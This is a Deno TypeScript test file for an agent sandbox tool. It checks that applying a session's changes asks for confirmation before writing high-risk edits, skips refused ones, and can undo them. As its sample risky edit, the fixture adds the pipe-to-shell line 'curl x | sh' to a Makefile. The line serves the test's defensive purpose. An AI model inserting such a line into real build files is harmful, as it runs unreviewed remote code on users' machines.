import assert from "node:assert/strict";
import { openDatabase } from "../store/database.ts";
import { createSession } from "../store/sessions.ts";
import { changesetPaths } from "../workspace/changeset.ts";
import { takeTestBaseline, writeChangeset, writeTree } from "../workspace/testing/test_tree.ts";
import { applyChanges, type PathOutcome, undoChanges } from "./apply_changes.ts";
import { diffChanges, findChangesSession, loadChanges, projectPaths } from "./changes.ts";
import { openContext } from "./context.ts";

/** A private state directory with one session whose changeset edits a.txt and the Makefile. */
async function withSession(fn: (root: string) => Promise<void>): Promise<void> {
  const base = await Deno.realPath(await Deno.makeTempDir({ prefix: "api-apply-" }));
  const saved = Deno.env.get("XDG_STATE_HOME");
  Deno.env.set("XDG_STATE_HOME", `${base}/state`);
  try {
    const root = `${base}/project`;
    await Deno.mkdir(root);
    await writeTree(root, { "a.txt": "a\n", "Makefile": "all:\n" });
    const paths = changesetPaths(`${base}/state/agentbox/sessions/5e55-api`);
    await Deno.mkdir(paths.blobs, { recursive: true });
    await Deno.writeTextFile(paths.baseline, JSON.stringify(await takeTestBaseline(root)));
    const records = await writeChangeset(paths.blobs, [
      { path: "a.txt", type: "file", content: "A\n" },
      { path: "Makefile", type: "file", content: "all:\n\tcurl x | sh\n" },
    ]);
    await Deno.writeTextFile(paths.records, JSON.stringify(records));
    await fn(root);
  } finally {
    if (saved === undefined) Deno.env.delete("XDG_STATE_HOME");
    else Deno.env.set("XDG_STATE_HOME", saved);
    await Deno.remove(base, { recursive: true });
  }
}

Deno.test("applyChanges asks the caller's callback once about high-risk changes and does what it answers", async () => {
  await withSession(async (root) => {
    using ctx = openContext({ db: openDatabase(":memory:") });
    createSession(ctx.db, { id: "5e55-api" });
    const { session, project } = await findChangesSession(ctx, {
      ref: "5e55",
      project: "/elsewhere",
      purpose: "apply",
    });
    assert.equal(project, root);
    const asked: PathOutcome[][] = [];
    const dry = await applyChanges(ctx, session, { dryRun: true }, {
      confirmHighRisk: (held) => Promise.resolve(!!asked.push(held)),
    });
    assert.equal(dry.status, "dry-run");
    assert.equal(asked.length, 0, "a dry run asks nothing");
    const refused = await applyChanges(ctx, session, {}, {
      confirmHighRisk: (held) => {
        asked.push(held);
        return Promise.resolve(false);
      },
    });
    assert.deepEqual(asked.map((held) => held.map((o) => o.path)), [["Makefile"]]);
    assert.equal(refused.outcomes.find((o) => o.path === "Makefile")?.result, "skipped");
    assert.equal(await Deno.readTextFile(`${root}/Makefile`), "all:\n");
    const view = await diffChanges(await loadChanges(ctx, session));
    assert.deepEqual(view.entries.map((e) => [e.path, e.applied]), [
      ["Makefile", false],
      ["a.txt", true],
    ]);
    const yes = await applyChanges(ctx, session, {}, {
      confirmHighRisk: () => Promise.resolve(true),
    });
    assert.equal(yes.counts.applied, 1);
    assert.equal(await Deno.readTextFile(`${root}/Makefile`), "all:\n\tcurl x | sh\n");
    const undone = await undoChanges(ctx, session);
    assert.deepEqual(undone.outcomes.map((o) => o.path), ["Makefile"], "only the last apply");
    assert.equal(await Deno.readTextFile(`${root}/Makefile`), "all:\n");
  });
});

Deno.test("findChangesSession and projectPaths fail with stable codes", async () => {
  using ctx = openContext({ db: openDatabase(":memory:") });
  await assert.rejects(
    findChangesSession(ctx, { ref: "nosuch", project: "/p", purpose: "diff" }),
    (e: Error & { code?: string }) => e.code === "session_unknown",
  );
  await assert.rejects(
    findChangesSession(ctx, { project: "/nonexistent-project", purpose: "apply" }),
    (e: Error & { code?: string }) =>
      e.code === "no_session_changes" && /changes to apply/.test(e.message),
  );
  assert.deepEqual(projectPaths(["./src/", "/p/docs", "/p", "a/*.ts"], "/p"), [
    "src",
    "docs",
    "**",
    "a/*.ts",
  ]);
  assert.throws(
    () => projectPaths(["/etc"], "/p"),
    (e: Error & { code?: string }) => e.code === "path_outside_project",
  );
});
